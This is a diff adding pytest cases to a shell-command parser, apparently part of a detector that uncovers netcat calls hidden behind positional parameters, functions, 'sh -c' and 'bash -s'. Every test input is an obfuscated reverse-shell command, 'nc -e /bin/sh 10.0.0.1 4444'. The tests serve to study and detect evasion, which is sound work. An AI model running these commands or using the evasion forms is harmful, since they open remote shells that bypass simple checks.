@@ -420,3 +420,15 @@ def test_an_ssh_config_the_session_wrote_is_read_where_it_is_used():
 ])
 def test_copies_with_options_and_xargs_option_forms(text):
     assert ["-e", "/bin/sh", "10.0.0.1", "4444"] in [c.args for c in reader.read(text) if c.name == "nc"]
+
+
+@pytest.mark.parametrize("text", [
+    "printf '${1} -e /bin/sh 10.0.0.1 4444' > /tmp/a.sh; sh /tmp/a.sh nc",
+    "f(){ ${1} -e /bin/sh 10.0.0.1 4444; }; f nc",
+    "sh -c '$1 -e /bin/sh 10.0.0.1 4444' _ nc",
+    "sh -c '$0 -e /bin/sh 10.0.0.1 4444' nc",
+    "echo 'nc -e /bin/sh $1 $2' | bash -s 10.0.0.1 4444",
+    "f(){ shift; $1 -e /bin/sh 10.0.0.1 4444; }; f x nc",
+])
+def test_positional_parameters_braced_shifted_and_given_to_sh_c_or_bash_s(text):
+    assert ["-e", "/bin/sh", "10.0.0.1", "4444"] in [c.args for c in reader.read(text) if c.name == "nc"]
